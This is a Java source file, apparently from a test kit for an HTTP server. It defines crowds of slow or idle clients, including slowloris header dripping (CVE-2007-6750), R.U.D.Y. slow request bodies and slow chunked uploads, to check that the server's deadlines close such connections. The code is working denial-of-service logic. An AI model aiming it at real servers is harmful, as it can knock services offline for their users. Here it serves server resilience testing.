package dev.weir.attack;

import dev.weir.wire.testkit.Answer;
import dev.weir.wire.testkit.Dial;
import dev.weir.wire.testkit.Wire;
import java.io.IOException;
import java.net.Socket;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;
import java.util.TreeSet;

/** Crowds of clients of HTTP/1 that are slow or silent: only a deadline of the server's ends them. */
public final class SlowCrowds {
    private static final int DRIP_MILLIS = 100;
    /** Longer than any deadline that a server has for such clients. */
    static final int PATIENCE_MILLIS = 60_000;

    private static final String HEAD = "GET /plaintext HTTP/1.1\r\nHost: localhost\r\n";
    private static final String POST = "POST /request HTTP/1.1\r\nHost: localhost\r\nContent-Length: 100000\r\n\r\n";

    private SlowCrowds() {}

    /** All of them. */
    public static List<Attack> all() {
        return List.of(
                new Crowd("idle from the start", "", ""),
                new Crowd("idle after an answer", HEAD + "\r\n", ""),
                new Crowd("half a head, then silence", HEAD, ""),
                new Crowd("a head by single bytes (slowloris, CVE-2007-6750)", HEAD + "A: ", "x"),
                new Crowd("a head by whole fields (slowloris, CVE-2007-6750)", HEAD, "A: b\r\n"),
                new Crowd("empty lines now and then", "", "\r\n"),
                new Crowd("half of the content, then silence", POST + "half", ""),
                new Crowd("content by single bytes (R.U.D.Y.)", POST, "x"),
                new Crowd(
                        "chunks of a byte now and then",
                        POST.replace("Content-Length: 100000", "Transfer-Encoding: chunked"),
                        "1\r\nx\r\n"));
    }

    /**
     * As many connections as the attack is large.
     *
     * @param begin what each sends at once
     * @param drip what each sends again and again
     */
    private record Crowd(String name, String begin, String drip) implements Attack {
        /** Returns the ways in which the connections ended, each once. */
        @Override
        public String play(Dial dial, int size) throws IOException {
            List<Socket> sockets = new ArrayList<>();
            try {
                for (int i = 0; i < size; i++) {
                    sockets.add(dial.connect());
                    sockets.getLast().getOutputStream().write(begin.getBytes(StandardCharsets.US_ASCII));
                }
                if (!drip.isEmpty()) {
                    drip(sockets);
                }
                TreeSet<String> endings = new TreeSet<>();
                for (Socket socket : sockets) {
                    endings.add(ending(socket));
                }
                return String.join(" or ", endings);
            } finally {
                for (Socket socket : sockets) {
                    socket.close();
                }
            }
        }

        /** Sends in turn until no connection is open. */
        private void drip(List<Socket> sockets) throws IOException {
            byte[] bytes = drip.getBytes(StandardCharsets.US_ASCII);
            List<Socket> open = new ArrayList<>(sockets);
            while (!open.isEmpty()) {
                open.removeIf(socket -> !takes(socket, bytes));
                try {
                    Thread.sleep(DRIP_MILLIS);
                } catch (InterruptedException e) {
                    throw new AssertionError(e);
                }
            }
        }

        private static boolean takes(Socket socket, byte[] bytes) {
            try {
                if (socket.getInputStream().available() > 0) {
                    return false;
                }
                socket.getOutputStream().write(bytes);
                return true;
            } catch (IOException _) {
                return false;
            }
        }

        private static String ending(Socket socket) throws IOException {
            Wire wire = new Wire(socket);
            socket.setSoTimeout(PATIENCE_MILLIS);
            StringBuilder text = new StringBuilder();
            try {
                while (true) {
                    Answer answer = wire.answer(false);
                    text.append(answer.status()).append("; ");
                }
            } catch (Wire.BrokenOff e) {
                return text + "closed";
            }
        }

        @Override
        public String toString() {
            return name;
        }
    }
}
